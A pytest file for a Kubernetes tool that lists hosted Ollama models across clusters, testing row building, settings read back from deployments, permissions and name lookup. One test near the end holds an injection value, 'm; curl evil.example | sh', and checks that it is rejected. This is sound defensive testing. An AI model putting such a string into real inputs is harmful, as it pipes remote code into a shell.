"""What is hosted, read from the clusters: rows, wishes read back, names found, engines asked once."""

from __future__ import annotations

import contextlib
from collections.abc import AsyncIterator
from typing import Any

import hosting as h
import pytest
from fake_kube import FakeKube, StepClock, context, refused, settle
from fake_ollama import FakeOllama

from sealane.fleet import Fleet
from sealane.kube import resources
from sealane.lib.errors import UsageError
from sealane.models import hosted
from sealane.models.stage_views import DeploymentView, view
from sealane.models.types import Share, Stage


@contextlib.asynccontextmanager
async def fleet_of(**kubes: FakeKube) -> AsyncIterator[Fleet]:
    contexts = [context(name.replace("_", "-")) for name in kubes]
    clients = {name.replace("_", "-"): kube for name, kube in kubes.items()}
    async with Fleet(contexts, clock=StepClock(), make_client=lambda of: clients[of.name].client(of)) as fleet:
        await settle()
        yield fleet


def hosting(*, ready: bool = True, **parts: Any) -> tuple[FakeKube, FakeOllama]:
    kube, ollama = FakeKube(), FakeOllama(h.MODEL)
    kube.put(resources.DEPLOYMENTS, h.deployment(ready=int(ready), **parts))
    kube.put(resources.REPLICASETS, h.replicaset())
    kube.put(resources.PODS, h.answering() if ready else h.pod())
    kube.pods[("team-a", "qwen-1-a")] = ollama
    return kube, ollama


def test_a_row_says_everything_that_the_list_promises() -> None:
    deployment = view(h.deployment(copies=2, ready=1, queue="vision", share="0.5"), DeploymentView)
    row = hosted.row("harbor-eu", deployment, Stage(stage="Loading", sentence="It loads."))
    assert (row.cluster, row.namespace, row.name, row.model) == ("harbor-eu", "team-a", "qwen", h.MODEL)
    assert (row.copies, row.ready, row.share, row.queue, row.context) == (2, 1, "0.5", "vision", 8192)
    assert row.endpoint == "http://qwen.team-a:11434"
    assert (row.engine, row.stage, row.sentence) == ("ollama", "Loading", "It loads.")


def test_a_wish_is_read_back_from_its_deployment() -> None:
    obj = h.deployment(copies=2, queue="vision", share="8GiB")
    spec = obj["spec"]["template"]["spec"]
    spec["volumes"] = [
        {"name": "models", "persistentVolumeClaim": {"claimName": "qwen-weights"}},
        {"name": "registry-key", "secret": {"secretName": "reg"}},
    ]
    spec["containers"][0]["env"] += [
        {"name": "OLLAMA_NUM_PARALLEL", "value": "4"},
        {"name": "OLLAMA_KV_CACHE_TYPE", "value": "q8_0"},
    ]
    spec["initContainers"][0]["env"].append({"name": "SEALANE_PULL_FLAGS", "value": "--insecure"})
    found = hosted.spec_of("harbor-eu", view(obj, DeploymentView))
    assert found.share == Share(memory_mib=8192)
    assert (found.copies, found.context, found.parallel, found.kv) == (2, 8192, 4, "q8_0")
    assert (found.keep_weights, found.insecure_registry, found.registry_secret) == (True, True, "reg")
    assert found.storage == "claim"
    assert (found.model, found.name, found.namespace, found.queue) == (h.MODEL, "qwen", "team-a", "vision")


def test_an_old_or_odd_deployment_is_still_read() -> None:
    obj = h.deployment(share="nonsense")
    obj["spec"]["template"]["spec"]["containers"][0]["env"] = []
    found = hosted.spec_of("harbor-eu", view(obj, DeploymentView))
    assert (found.share, found.context, found.parallel, found.kv) == (Share(devices=0), 8192, 1, "f16")
    assert not found.keep_weights
    assert found.storage == "empty"


async def test_reading_asks_each_ready_engine_once() -> None:
    kube, ollama = hosting()
    ollama.memory = [h.MODEL]
    async with fleet_of(harbor_eu=kube) as fleet:
        rows = await hosted.read(fleet)
        assert [(row.name, row.stage) for row in rows] == [("qwen", "Answering")]
        assert [path for _, path in ollama.asked] == ["/api/ps"]


async def test_a_model_that_is_stored_but_not_loaded_answers_slowly_at_first() -> None:
    kube, _ = hosting()
    async with fleet_of(harbor_eu=kube) as fleet:
        rows = await hosted.read(fleet)
        assert "the first request loads it" in rows[0].sentence


async def test_an_unreachable_cluster_only_takes_its_own_models_away() -> None:
    kube, _ = hosting(ready=False)
    dead = FakeKube()
    dead.down = refused()
    async with fleet_of(harbor_eu=kube, atlas_us=dead) as fleet:
        rows = await hosted.read(fleet, timeout=0.05)
        assert [row.cluster for row in rows] == ["harbor-eu"]


async def test_someone_with_one_namespace_finds_her_model_when_she_names_it() -> None:
    kube, _ = hosting()
    kinds = [kind.plural for kind in hosted.KINDS]
    kube.denied = {*((kind, "") for kind in kinds), ("allow", "team-a")}
    async with fleet_of(harbor_eu=kube) as fleet:
        assert await hosted.read(fleet) == []
        rows = await hosted.read(fleet, namespace="team-a")
        assert [row.name for row in rows] == ["qwen"]
        assert hosted.find(fleet, "qwen", namespace="team-a").name == "qwen"


async def test_noise_of_kais_grouper_is_left_out_of_the_picture() -> None:
    kube, _ = hosting()
    kube.put(resources.EVENTS, h.event("PodGrouperWarning", "Operation cannot be fulfilled on podgroups"))
    kube.put(resources.EVENTS, h.event("Pulled", at=2))
    async with fleet_of(harbor_eu=kube) as fleet:
        cluster = fleet.cluster("harbor-eu")
        await cluster.synced(*hosted.KINDS)
        seen = hosted.picture(cluster, "team-a", "qwen").events
        assert [event.reason for event in seen] == ["Pulled"]


async def test_the_snapshot_waits_for_nobody_and_asks_nobody() -> None:
    kube, ollama = hosting()
    async with fleet_of(harbor_eu=kube) as fleet:
        assert hosted.snapshot(fleet) == []
        await fleet.cluster("harbor-eu").synced(*hosted.KINDS)
        assert [row.stage for row in hosted.snapshot(fleet)] == ["Loading"]
        assert ollama.asked == []


async def test_a_name_or_a_tag_finds_its_one_model() -> None:
    kube, _ = hosting()
    async with fleet_of(harbor_eu=kube) as fleet:
        await fleet.cluster("harbor-eu").synced(*hosted.KINDS)
        key = hosted.Key("harbor-eu", "team-a", "qwen")
        assert hosted.find(fleet, "qwen") == key
        assert hosted.find(fleet, h.MODEL) == key
        with pytest.raises(hosted.NotHosted, match="Did you mean qwen"):
            hosted.find(fleet, "qwenn")


async def test_a_name_in_two_places_must_be_placed() -> None:
    one, _ = hosting()
    two, _ = hosting()
    async with fleet_of(harbor_eu=one, atlas_us=two) as fleet:
        for cluster in fleet.clusters.values():
            await cluster.synced(*hosted.KINDS)
        with pytest.raises(UsageError, match="atlas-us team-a/qwen and harbor-eu team-a/qwen"):
            hosted.find(fleet, "qwen")
        assert hosted.find(fleet, "qwen", cluster="atlas-us").cluster == "atlas-us"


def test_a_deployment_whose_model_can_be_no_name_is_not_ours() -> None:
    obj = h.deployment()
    obj["metadata"]["annotations"]["sealane.dev/model"] = "m; curl evil.example | sh"
    assert view(obj, DeploymentView).model == ""


@pytest.mark.parametrize("odd", ["9" * 5_000, "\N{SUPERSCRIPT TWO}", "-1", "x"])
def test_a_number_that_anybody_wrote_is_none_if_it_is_not_reasonable(odd: str) -> None:
    assert hosted._number(odd, otherwise=7) == 7
